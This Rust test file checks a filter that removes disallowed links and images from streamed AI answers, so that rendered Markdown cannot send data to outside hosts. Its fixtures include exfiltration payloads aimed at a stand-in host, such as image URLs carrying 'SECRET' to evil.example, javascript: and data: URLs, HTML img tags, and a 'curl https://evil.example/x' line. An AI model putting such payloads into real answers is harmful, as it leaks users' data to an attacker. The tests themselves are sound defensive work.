//! The text that remains of an answer. A Markdown renderer decides what is a link.

use proptest::prelude::*;
use pulldown_cmark::{Event, Options, Parser, Tag};

use super::*;

fn shown(answer: &str) -> String {
    filter_answer(
        &SafeLinks::new().allow_host("ok.example"),
        "see https://said.example/a?b=c.",
        answer,
    )
}

fn check(answer: &str, expected: &str) {
    assert_eq!(shown(answer), expected);
}

#[test]
fn of_disallowed_links_and_images_the_text_and_the_host_are_left() {
    check("![x](https://evil.example/?q=SECRET)", "x (evil.example)");
    check("a [b](https://Evil.example:80/SECRET \"t\") c", "a b (evil.example) c");
    check("[b](<https://evil.example/SECRET>)", "b (evil.example)");
    check("[b](\nhttps://evil.example/SECRET\n)", "b (evil.example)");
    check(
        "[![b](https://evil.example/1)](https://evil.example/2)",
        "b (evil.example) (evil.example)",
    );
    check("[b](//evil.example/SECRET)", "b (evil.example)");
    check("[b](javascript:SECRET)", "b (javascript)");
    check("![](https://evil.example/SECRET)", " (evil.example)");
    check("See https://www.evil.example/?q=SECRET.", "See evil.example.");
    check("See <https://evil.example/?q=SECRET>.", "See evil.example.");
    check("See www.evil.example/?q=SECRET", "See evil.example");
    check(
        "![x][1]\n\n[1]: https://evil.example/?q=SECRET",
        "![x][1]\n\n[1] : evil.example",
    );
    check(
        "<img src=\"//evil.example/SECRET\">",
        "< img src=\"//evil.example/SECRET\">",
    );
    check("<style>@import '//evil.example'", "< style>@import '//evil.example'");
}

#[test]
fn addresses_named_by_the_user_allowed_ones_and_relative_ones_stay() {
    for same in [
        "[b](https://said.example/a?b=c) and https://said.example/a?b=c",
        "[b](https://ok.example/?q=1) ![c](http://sub.ok.example/x.png) <https://ok.example>",
        "![chart](chart.png) [top](#top) [docs](/docs/a.md)",
        "a [1] b [x]: Hello, [y]: [z] world; `Vec<String>` 1 < 2, a]b, (c)",
        // Renderers make the address `[y]:` of it, which is a path: no scheme begins with a bracket.
        "See [x]: \n\n[x]: [y]: \nMore.",
        "",
        "Nothing.",
    ] {
        check(same, same);
    }
    check("[b](https://said.example/a?b=d)", "b (said.example)");
    check(
        "[b](https://said.example/a?b=c[S])",
        "[b] (https://said.example/a?b=c[S])",
    );
    check("[b](https://notok.example)", "b (notok.example)");
    check("[b](https://ok.example@evil.example)", "b (evil.example)");
    check("[b](https://ok.example.evil.example)", "b (ok.example.evil.example)");
}

#[test]
fn a_line_that_is_text_is_not_looked_at_again() {
    let mut answer = SafeLinks::new().begin("");
    let shown: String = ["    ", "``", "` "].map(|piece| answer.push(piece)).concat();
    assert_eq!(shown, "    ``` ", "no fence has four spaces before it");
}

#[test]
fn fenced_code_stays_as_it_is() {
    for same in [
        "Do:\n```sh\ncurl https://evil.example/x\n```\nDone.",
        "~~~\n[b](https://evil.example)\n```\n~~~",
        "1. Do:\n   ```sh\n   curl https://evil.example/x\n   ```\n",
        "```\n![x](https://evil.example)",
    ] {
        check(same, same);
    }
    // Here renderers see no code, or may disagree.
    let image = "![x](https://evil.example/SECRET)";
    for answer in [
        format!("<!--\n```\n-->\n{image}\n```\n"),
        format!("- a\n  ```\n{image}\n  ```\n"),
        format!("- ```\n  ```\n{image}\n"),
        format!("    {image}\n"),
        format!("```\ncode\n```\n{image}\n```\ncode\n```\n"),
        format!("`{image}\n"),
    ] {
        assert!(!shown(&answer).contains("SECRET"), "{answer}");
    }
}

/// Returns what is shown of each piece as soon as it came, and at the end.
fn streamed(pieces: &[&str]) -> Vec<String> {
    let mut answer = SafeLinks::new().begin("");
    let mut shown: Vec<_> = pieces.iter().map(|piece| answer.push(piece)).collect();
    shown.push(answer.finish());
    shown
}

#[test]
fn text_that_cannot_be_part_of_a_link_is_shown_at_once() {
    assert_eq!(
        streamed(&["See the ", "[docs", "] and", " more"]),
        ["See the ", "", "[docs] and", " more", ""]
    );
    assert_eq!(streamed(&["Wow!", " So", " h"]), ["Wow", "! So", " ", "h"]);
    assert_eq!(streamed(&["a < b", " c <", "d> e"]), ["a < b", " c ", "<d> e", ""]);
    assert_eq!(
        streamed(&["http", "s://evil.example/", "x y"]),
        ["", "", "evil.example y", ""]
    );
    assert_eq!(
        streamed(&["``", "`sh\n", "curl", " https://a.example\n", "```"]),
        ["", "```sh\n", "curl", " https://a.example\n", "```", ""]
    );
    assert_eq!(
        streamed(&["- ```\n  [x]", "(y) ", "\n  ```\n"]),
        ["- ```\n  ", "[x](y) ", "\n  ```\n", ""]
    );
}

#[test]
fn what_is_longer_than_the_look_ahead_is_not_allowed() {
    let long = "a".repeat(5_000);
    let check = |answer: String, expected: &str| {
        let mut shown: Vec<_> = shown(&answer).chars().collect();
        shown.dedup_by(|one, other| (*one, *other) == ('a', 'a'));
        assert_eq!(String::from_iter(shown), expected);
    };
    check(format!("[x](https://ok.example/{long})"), "[x] (ok.examplea)");
    check(format!("[x]({long}"), "[x] (a");
    check(format!("<img {long}src=//evil.example>"), "< img asrc=//evil.example>");
    check(format!("[{long}](https://evil.example/S)"), "[a] (evil.example)");
    check(format!("[{long}](https://ok.example/S)"), "[a](https://ok.example/S)");
    check(
        format!("```{long}\n[x](https://evil.example/S)\n```\n"),
        "```a\nx (evil.example)\n```\n",
    );
}

/// Returns every address that a renderer would make a link of, load, or put into HTML.
fn live(text: &str) -> Vec<String> {
    let mut addresses = Vec::new();
    let options = Options::all() - Options::ENABLE_WIKILINKS;
    for event in Parser::new_ext(text, options) {
        match event {
            Event::Start(Tag::Link { dest_url, .. } | Tag::Image { dest_url, .. }) => {
                addresses.push(dest_url.into_string())
            }
            Event::Html(html) | Event::InlineHtml(html) if has_attributes(&html) => addresses.push(html.into_string()),
            _ => {}
        }
    }
    addresses
}

fn has_attributes(html: &str) -> bool {
    html.match_indices('<').any(|(at, _)| {
        let tag = html[at + 1..].split('>').next().unwrap_or_default();
        tag.starts_with(|first: char| first.is_ascii_alphabetic()) && tag.contains('=')
    })
}

const LONG: &str = LONGER.split_at(1_000).0;

/// More than the look-ahead.
const LONGER: &str = match str::from_utf8(&[b'x'; 2_100]) {
    Ok(text) => text,
    Err(_) => unreachable!(),
};

fn pieces() -> impl Strategy<Value = Vec<String>> {
    let piece = prop_oneof![
        3 => prop::sample::select(vec![
            "https://evil.example/?q=S", "//evil.example/S", "www.evil.example/S", "https:\\//evil.example", "HTTPS://evil.example/",
            "https&#58;//evil.example", "data:text/html,S", "javascript:S", "evil", "https://ok.example@evil.example",
        ]),
        1 => prop::sample::select(vec![LONG, LONGER]),
        6 => prop::sample::select(vec![
            "![", "[", "](", "]", ")", "(", "]:", "][", "<", ">", "<img src=", "<a href=\"", "\"", "'", "<!--", "-->", "<div>",
            "[x]: ", "![x](", "[1]", "\\", "`", "``", "```", "~~~", "|",
        ]),
        4 => prop::sample::select(vec![" ", "\n", "\n\n", "\r\n", "\r", "    ", "  ", "\t", "- ", "> ", "1. ", "# ", "a"]),
    ];
    prop::collection::vec(piece.prop_map(str::to_owned), 0..24)
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(1000))]

    #[test]
    fn no_renderer_finds_an_address_that_is_not_allowed(pieces in pieces()) {
        let shown = shown(&pieces.concat());
        for address in live(&shown) {
            // What begins with a bracket has neither a scheme nor a host: it is a path of the page that
            // shows it.
            let is_path = address.starts_with(['[', ']']);
            let remote = address.contains([':', '\\', '=']) || address.starts_with("//");
            prop_assert!(is_path || !remote, "{address:?} in {shown:?}");
        }
    }

    #[test]
    fn it_does_not_matter_how_an_answer_is_cut(pieces in pieces()) {
        let mut answer = SafeLinks::new().allow_host("ok.example").begin("https://said.example/a?b=c");
        let mut streamed: String = pieces.iter().map(|piece| answer.push(piece)).collect();
        streamed.push_str(&answer.finish());
        prop_assert_eq!(streamed, shown(&pieces.concat()));
    }

    #[test]
    fn code_between_fences_is_never_touched(pieces in pieces()) {
        let code = pieces.concat().replace('\r', "").replace("~~~~", "");
        let answer = format!("Look:\n~~~~\n{code}\n~~~~\nThat is all.");
        prop_assert_eq!(shown(&answer), answer);
    }
}
